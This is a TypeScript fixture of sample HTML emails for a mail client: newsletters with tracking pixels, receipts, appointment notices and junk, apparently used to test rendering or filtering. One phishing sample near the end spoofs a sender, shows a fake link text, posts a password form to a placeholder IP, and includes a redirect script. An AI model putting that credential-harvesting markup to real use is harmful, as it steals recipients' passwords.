/** HTML mail as it comes: newsletters with remote pictures and trackers, receipts, notices, a phishing try. */

export interface HtmlMail {
  readonly from: { readonly name: string; readonly address: string };
  readonly ago: number;
  readonly folder: string;
  readonly to: 'alex' | 'sam';
  readonly subject: string;
  readonly text?: string;
  readonly html: string;
  readonly headers?: readonly (readonly [string, string])[];
}

const unsubscribe = (host: string): readonly (readonly [string, string])[] => [
  ['List-Unsubscribe', `<https://${host}/leave?u=7f3a>, <mailto:leave@${host}?subject=leave>`],
  ['List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'],
];

function letter(
  host: string,
  accent: string,
  title: string,
  intro: string,
  stories: readonly (readonly [string, string])[],
): string {
  const rows = stories
    .map(
      ([head, body], index) =>
        `<tr><td style="padding:16px 24px;border-top:1px solid #e4e7ec"><img src="https://img.${host}/story-${index + 1}.jpg" width="552" height="240" alt="${head}" style="display:block;width:100%;border-radius:6px"><h2 style="font:600 18px sans-serif;color:#101828;margin:12px 0 4px">${head}</h2><p style="font:15px/1.5 sans-serif;color:#475467;margin:0">${body}</p><p style="margin:8px 0 0"><a href="https://${host}/read/${index + 1}?utm_source=mail" style="color:${accent};font:600 14px sans-serif">Read on</a></p></td></tr>`,
    )
    .join('');
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title><style>@media (max-width:600px){.page{width:100%!important}}</style></head><body style="margin:0;background:#f2f4f7"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px"><table class="page" role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px"><tr><td style="padding:24px;background:${accent};border-radius:8px 8px 0 0"><h1 style="margin:0;font:700 24px sans-serif;color:#ffffff">${title}</h1></td></tr><tr><td style="padding:20px 24px"><p style="font:16px/1.5 sans-serif;color:#344054;margin:0">${intro}</p></td></tr>${rows}<tr><td style="padding:20px 24px;font:12px sans-serif;color:#667085">You get this because you asked for it. <a href="https://${host}/leave?u=7f3a">Leave the list</a>.</td></tr></table></td></tr></table><img src="https://track.${host}/o.gif?u=7f3a&amp;m=118" width="1" height="1" alt=""></body></html>`;
}

export const htmlMails: readonly HtmlMail[] = [
  {
    from: { name: 'Weekly Harbour', address: 'hello@weeklyharbour.example' },
    ago: 2.2,
    folder: 'INBOX',
    to: 'alex',
    subject: 'Three ports that run on the tide',
    headers: unsubscribe('weeklyharbour.example'),
    text: `Three ports that run on the tide\n\nRead it at https://weeklyharbour.example/118`,
    html: letter(
      'weeklyharbour.example',
      '#175cd3',
      'Weekly Harbour',
      'Good morning. This week: a lock without a motor, a clock for fishermen, and why the best crane driver we met is afraid of heights.',
      [
        [
          'A lock that opens itself',
          'In Marsa the rising water lifts a float, the float turns a wheel, and forty tons of gate move without a drop of fuel.',
        ],
        [
          'The clock with one hand',
          'It shows no hours, only how far the water still has to rise. The whole village sets its lunch by it.',
        ],
        [
          'Afraid of heights, forty metres up',
          'She looks at the load and never at the ground. She has not dropped anything since 1998.',
        ],
      ],
    ),
  },
  {
    from: { name: 'Weekly Harbour', address: 'hello@weeklyharbour.example' },
    ago: 174,
    folder: 'Archive',
    to: 'alex',
    subject: 'What a buoy hears at night',
    headers: unsubscribe('weeklyharbour.example'),
    html: letter('weeklyharbour.example', '#175cd3', 'Weekly Harbour', 'A quiet issue, as the season wants it.', [
      ['What a buoy hears', 'A microphone under the bell recorded a year of whales, propellers and one accordion.'],
      ['Paint that tells on you', 'A hull that turns red where it was scraped. Captains are divided.'],
    ]),
  },
  {
    from: { name: 'Type & Tide', address: 'studio@typeandtide.example' },
    ago: 27,
    folder: 'INBOX',
    to: 'sam',
    subject: 'Signs people can read from a moving boat',
    headers: unsubscribe('typeandtide.example'),
    html: letter(
      'typeandtide.example',
      '#c11574',
      'Type & Tide',
      'Letters have to be bigger than you think and fewer than you like.',
      [
        ['Seven metres a second', 'We sailed past our own sign at ferry speed. Only two words survived.'],
        ['Yellow on black, still', 'We tried eleven pairs in fog. You know which one won.'],
      ],
    ),
  },
  {
    from: { name: 'Compiler Kitchen', address: 'chef@compilerkitchen.example' },
    ago: 47,
    folder: 'INBOX',
    to: 'alex',
    subject: 'Recipe 52: a parser with three ingredients',
    headers: unsubscribe('compilerkitchen.example'),
    html: letter(
      'compilerkitchen.example',
      '#067647',
      'Compiler Kitchen',
      'Take a string, a position and a promise never to throw.',
      [
        [
          'The dish',
          'A reader for station files in eighty lines. It serves two and leaves no crumbs, because every byte is somewhere.',
        ],
        ['The mistake of the week', 'A loop that ended when the input did. The input did not.'],
      ],
    ),
  },
  {
    from: { name: 'Compiler Kitchen', address: 'chef@compilerkitchen.example' },
    ago: 215,
    folder: 'Archive',
    to: 'alex',
    subject: 'Recipe 51: leftovers of a garbage collector',
    headers: unsubscribe('compilerkitchen.example'),
    html: letter(
      'compilerkitchen.example',
      '#067647',
      'Compiler Kitchen',
      'What remains on the plate when everything was cleared.',
      [['Weak references', 'They let you wave to somebody who has left already.']],
    ),
  },
  {
    from: { name: 'North Quay Rail', address: 'tickets@northquayrail.example' },
    ago: 23,
    folder: 'INBOX',
    to: 'alex',
    subject: 'Your tickets to Porto, 3 December',
    text: `Your booking NQ-7K2M4\n\n07:52 Central – 15:40 Porto\nCoach 11, seats 34 and 35, by the window\n\nTotal 148.00 EUR, paid.`,
    html: `<div style="font-family:sans-serif;max-width:520px"><h2 style="margin:0 0 8px">Your booking NQ-7K2M4</h2><table cellpadding="6" style="border-collapse:collapse;width:100%"><tr style="background:#f2f4f7"><td><b>07:52</b> Central</td><td><b>15:40</b> Porto</td></tr><tr><td>Coach 11</td><td>Seats 34 and 35, by the window</td></tr><tr style="border-top:1px solid #d0d5dd"><td>Total</td><td><b>148.00 EUR</b>, paid</td></tr></table><p style="color:#667085">Coffee is in coach 8. The sea is on the left after Aveiro.</p></div>`,
  },
  {
    from: { name: 'Lantern Books', address: 'orders@lanternbooks.example' },
    ago: 39,
    folder: 'INBOX',
    to: 'alex',
    subject: 'On its way: "Knots, and how to leave them"',
    text: `Your parcel left us this morning and should be with you on Thursday.\n\n1 × Knots, and how to leave them    24.00 EUR\n1 × A very large atlas              79.00 EUR\nPostage                              6.50 EUR\n                                   109.50 EUR`,
    html: `<p style="font-family:serif">Your parcel left us this morning and should be with you on <b>Thursday</b>.</p><table style="font-family:serif" cellpadding="4"><tr><td>Knots, and how to leave them</td><td align="right">24.00</td></tr><tr><td>A very large atlas</td><td align="right">79.00</td></tr><tr><td>Postage</td><td align="right">6.50</td></tr><tr><td><b>EUR</b></td><td align="right"><b>109.50</b></td></tr></table>`,
  },
  {
    from: { name: 'Riverside Dental', address: 'desk@riversidedental.example' },
    ago: 52,
    folder: 'INBOX',
    to: 'sam',
    subject: 'See you on Tuesday at 8:20',
    text: 'Dear Sam,\n\nwe look forward to seeing you on Tuesday at 8:20. Please let us know a day ahead if you cannot come.\n\nRiverside Dental',
    html: '<p>Dear Sam,</p><p>we look forward to seeing you on <b>Tuesday at 8:20</b>. Please let us know a day ahead if you cannot come.</p><p>Riverside Dental</p>',
  },
  {
    from: { name: 'Tidewater Forge Security', address: 'security@forge.tidewater.example' },
    ago: 13,
    folder: 'INBOX',
    to: 'alex',
    subject: 'New sign-in to your account',
    text: `A new browser signed in to your account.\n\nFirefox on Linux, Lisbon\n\nIf this was you, there is nothing to do. If not, change your password in the settings; we never send a link for that.`,
    html: `<h3>A new browser signed in to your account</h3><p>Firefox on Linux, Lisbon</p><p>If this was you, there is nothing to do. If not, change your password in the settings; we never send a link for that.</p>`,
  },
  {
    from: {
      name: 'Tidewater Forge <security@forge.tidewater.example>',
      address: 'no-reply@forge-tidewater.support-desk.example',
    },
    ago: 2.6,
    folder: 'INBOX',
    to: 'alex',
    subject: 'URGENT: your mailbox will be closed in 24 hours',
    headers: [
      ['Reply-To', 'collect@quick-verify.example'],
      [
        'Authentication-Results',
        'mx.mailroom.test; spf=fail smtp.mailfrom=support-desk.example; dkim=none; dmarc=fail header.from=support-desk.example',
      ],
    ],
    text: 'Verify your mailbox: https://forge.tidewater.example/verify',
    html: `<div style="font-family:sans-serif;max-width:480px;border:1px solid #ccc;padding:20px"><h2 style="color:#b42318">Your mailbox is almost full</h2><p>Dear user alex@mailroom.test,</p><p>your mailbox will be <b>closed in 24 hours</b>. Confirm your password now to keep your messages:</p><p><a href="http://198.51.100.23/forge/login.php?u=alex" style="background:#b42318;color:#fff;padding:10px 18px;text-decoration:none">https://forge.tidewater.example/verify</a></p><form action="http://198.51.100.23/forge/login.php" method="post"><input type="password" name="p"><input type="submit" value="Keep my mailbox"></form><img src="http://198.51.100.23/seen.gif?u=alex" width="1" height="1"><script>location='http://198.51.100.23/'</script><p style="font-size:11px;color:#777">Tidewater Forge Security Departement</p></div>`,
  },
  {
    from: { name: 'Prize Office', address: 'winner@lucky-anchor.example' },
    ago: 65,
    folder: 'Junk',
    to: 'alex',
    subject: 'You have won a yacht (final notice)',
    html: `<center><h1><font color="red">CONGRATULATIONS!!!</font></h1><p>You were chosen among 4,000,000 addresses. To collect your yacht send us the mooring fee of 290 USD.</p><p><a href="https://lucky-anchor.example/claim">CLAIM NOW</a></p></center>`,
  },
  {
    from: { name: 'SEO Experts', address: 'rank@first-page.example' },
    ago: 88,
    folder: 'Junk',
    to: 'alex',
    subject: 'I found 17 errors on your website',
    html: `<p>Hello Sir or Madam,</p><p>I looked at your beautiful website and found 17 errors. For a small fee I tell you which.</p><p>Kind regards,<br>An expert</p>`,
  },
];
